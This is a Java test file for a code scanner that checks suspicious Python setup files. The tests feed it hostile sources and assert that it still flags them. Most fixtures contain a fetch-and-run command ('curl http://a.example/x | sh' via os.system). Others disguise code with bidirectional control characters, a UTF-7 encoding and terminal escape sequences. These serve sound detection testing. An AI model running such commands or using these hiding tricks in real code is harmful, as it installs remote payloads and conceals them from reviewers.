package dev.waag.code;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import org.junit.jupiter.api.Test;

/** Sources made to break whoever reads them. */
class HostileSourceTest {
    private static CodeReport scan(String source) {
        return CodeScanTest.scan(CodeRole.SETUP, source);
    }

    private static void found(CodeReport report, Signal kind) {
        assertThat(report.findings()).extracting(CodeFinding::kind).contains(kind);
    }

    private static final String ATTACK = "import os\nos.system('curl http://a.example/x | sh')\n";

    @Test
    void charactersThatReorderALineAreHarmlessWithinADocstringOnly() {
        String line = "if access != 'none\u202e\u2066': # only admins \u2069\u2066'\n";
        assertThat(scan("\"\"\"An example:\n    " + line + "\"\"\"\nx = 1\n").findings())
                .isEmpty();
        for (String deceives : new String[] {
            line + "    pass\n",
            "x = \"\"\"An example:\n    " + line + "\"\"\"\n",
            "def f():\n    \"\"\"Pays.\n    then \u202e\u2066 \"\"\" ; return\n",
            "# " + line
        }) {
            found(scan(deceives), Signal.BIDIRECTIONAL);
        }
    }

    @Test
    void deepNestingEndsNothing() {
        for (String bracket : new String[] {"(", "[", "{", "lambda: (", "x(", "-", "not ", "a if b else ("}) {
            scan(ATTACK + "x = " + bracket.repeat(50_000));
        }
        StringBuilder blocks = new StringBuilder(ATTACK);
        for (int i = 0; i < 900; i++) {
            blocks.append(" ".repeat(i)).append("if x:\n");
        }
        found(scan(blocks.toString()), Signal.DOWNLOAD_COMMAND);
    }

    @Test
    void longChainsAreFollowed() {
        found(
                scan("import os\nc = 'curl http://a.example/x' " + "+ ' '".repeat(20_000)
                        + " + '| sh'\nos.system(c)\n"),
                Signal.DOWNLOAD_COMMAND);
        scan("import os\n" + "a = ".repeat(20_000) + "1\n");
        scan("import os\nx" + ".a".repeat(50_000) + "\n");
        scan("import os\nx" + "()".repeat(50_000) + "\n");
    }

    @Test
    void recursionEnds() {
        CodeReport report = scan("import os\ndef f(x):\n    return f(f(x + x)) + f(x)\nf('a')\n" + ATTACK);
        found(report, Signal.DOWNLOAD_COMMAND);
        scan("exec('exec(1)')\nx = {}\nx['x'] = x\ny = [x]\ny.append(y)\nprint(x, y)\nclass A(A): pass\nA().a.b\n");
    }

    @Test
    void aHugeFileIsSearchedToItsEnd() {
        byte[] rows =
                "    (1, 2, 3, 'some words of data', 4.5),\n".repeat(500_000).getBytes(UTF_8);
        byte[] attack = ("]\n" + ATTACK).getBytes(UTF_8);
        byte[] head = "DATA = [\n".getBytes(UTF_8);
        byte[] source = Arrays.copyOf(head, head.length + rows.length + attack.length);
        System.arraycopy(rows, 0, source, head.length, rows.length);
        System.arraycopy(attack, 0, source, head.length + rows.length, attack.length);
        assertThat(source.length).isGreaterThan(20_000_000);
        CodeReport report = CodeScan.standard().scan("setup.py", source, CodeRole.SETUP);
        found(report, Signal.NOT_ALL_READ);
        found(report, Signal.DOWNLOAD_COMMAND);
        assertThat(report.findings()).anySatisfy(f -> {
            assertThat(f.kind()).isEqualTo(Signal.DOWNLOAD_COMMAND);
            assertThat(f.line()).isEqualTo(500_004);
        });
    }

    @Test
    void oneHugeLineIsShownInPart() {
        CodeReport report =
                scan("x = '" + "A".repeat(5_000_000) + "'; import os; os.system('curl http://a.example/x | sh')\n");
        found(report, Signal.DOWNLOAD_COMMAND);
        assertThat(report.findings())
                .allSatisfy(f -> assertThat(f.evidence().length()).isLessThanOrEqualTo(Evidence.LENGTH + 1));
    }

    @Test
    void brokenSyntaxIsReadAsFarAsItGoes() {
        found(scan("x = = 3\n" + ATTACK + "\nclass (((\n"), Signal.DOWNLOAD_COMMAND);
        found(
                scan(
                        "print 'two'\nimport os\nexec 'aW1w'.decode('base64')\nos.system('curl http://a.example/x | sh')\n"),
                Signal.DOWNLOAD_COMMAND);
    }

    @Test
    void otherEncodingsAreRead() {
        byte[] wide = ("\uFEFF" + ATTACK).getBytes(UTF_16LE);
        found(CodeScan.standard().scan("setup.py", wide, CodeRole.SETUP), Signal.DOWNLOAD_COMMAND);
        found(scan("\uFEFF" + ATTACK), Signal.DOWNLOAD_COMMAND);
        found(scan(ATTACK.replace("\n", "\r")), Signal.DOWNLOAD_COMMAND);
        found(scan(ATTACK.replace("\n", "\r\n")), Signal.DOWNLOAD_COMMAND);
        CodeReport hidden = scan("""
                # coding: utf-7
                +AG8-s = 1
                import os
                os.system('+AGMAdQByAGw- http://a.example/x | sh')
                """);
        found(hidden, Signal.ODD_ENCODING);
        found(hidden, Signal.DOWNLOAD_COMMAND);
        found(scan("# -*- coding: cp1252 -*-\n" + ATTACK), Signal.DOWNLOAD_COMMAND);
        byte[] mixed = (ATTACK + "# \u00e9\n").getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
        found(CodeScan.standard().scan("setup.py", mixed, CodeRole.SETUP), Signal.DOWNLOAD_COMMAND);
    }

    @Test
    void evidenceIsSafeToPrint() {
        CodeReport report = scan("import os; os.system('curl http://a.example/\u001b[2J\u202e | sh')\n");
        assertThat(report.findings())
                .isNotEmpty()
                .allSatisfy(f -> assertThat(f.evidence()).doesNotContain("\u001b", "\u202e", "\n"));
    }

    @Test
    void theSameFileGivesTheSameReport() {
        CodeReport one = scan(ATTACK);
        assertThat(scan(ATTACK)).isEqualTo(one);
    }
}
